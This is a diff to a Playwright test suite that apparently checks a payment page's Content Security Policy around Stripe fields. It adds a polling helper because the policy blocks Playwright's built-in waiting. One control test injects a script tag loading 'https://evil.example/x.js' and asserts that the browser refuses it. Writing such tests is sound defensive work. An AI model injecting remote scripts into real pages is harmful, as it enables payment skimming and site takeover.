@@ -221,6 +221,15 @@ async def test_wh02_paid_with_stripe_s_fields_and_nothing_is_refused(
     assert payer.stripe.confirms == 1
 
 
+async def until(page: Page, said: str) -> None:
+    """Playwright's own waiting evaluates text inside the page, which the policy refuses."""
+    for _ in range(200):
+        if await page.evaluate(said):
+            return
+        await asyncio.sleep(0.05)
+    raise AssertionError(f"It never came to this: {said}")
+
+
 async def test_wh02_what_the_policy_does_not_name_is_refused(browser: Browser, shop: Elements) -> None:
     """The control: the browser does enforce it."""
     payer = await payer_in(browser, shop)
@@ -229,7 +238,7 @@ async def test_wh02_what_the_policy_does_not_name_is_refused(browser: Browser, s
     add = "(url) => { const each = document.createElement('script'); each.src = url; document.head.append(each); }"
     await payer.page.evaluate(add, "https://evil.example/x.js")
     await payer.page.evaluate("fetch('/p/x').catch(() => 0)")
-    await payer.page.wait_for_function("window.refused.length === 2")
+    await until(payer.page, "window.refused.length === 2")
     assert sorted(each.split(" ")[0] for each in await payer.refused()) == ["connect-src", "script-src-elem"]
     assert not [each for each in payer.stripe.asked if "evil" in each]
 
@@ -358,5 +367,5 @@ async def test_the_fields_follow_the_colors_of_the_page(browser: Browser, shop: 
     await payer.press_pay()
     await expect(payer.button).to_be_enabled()
     await payer.page.emulate_media(color_scheme="dark")
-    await payer.page.wait_for_function("window.told.length === 3")
+    await until(payer.page, "window.told.length === 3")
     assert (await payer.told())[-1] == ["changeAppearance", "night"]
